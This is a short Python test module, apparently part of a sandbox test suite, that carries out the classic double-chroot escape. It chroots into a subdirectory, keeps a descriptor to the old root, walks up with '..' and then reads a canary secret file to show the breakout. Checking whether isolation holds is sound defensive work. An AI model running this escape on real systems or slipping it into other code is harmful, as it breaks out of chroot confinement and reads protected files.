"""Leave a root directory that is only a chroot: chroot again, walk up from the old directory,
chroot there.

Source: chroot(2); security.md section 4 row "chroot only".
"""

from __future__ import annotations

LAYER = "user mnt"


def attempt(canary: dict[str, str]) -> str | None:
    import os

    jail = os.path.join(canary["rw"], "jail")
    os.makedirs(os.path.join(jail, "inner"))
    os.chroot(jail)
    os.chdir("/")
    if os.path.exists(canary["secret"]):
        raise RuntimeError("the first chroot did not hold")
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/inner")
    os.fchdir(outside)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    with open(canary["secret"]) as file:
        return f"broke out and read {file.read()}"
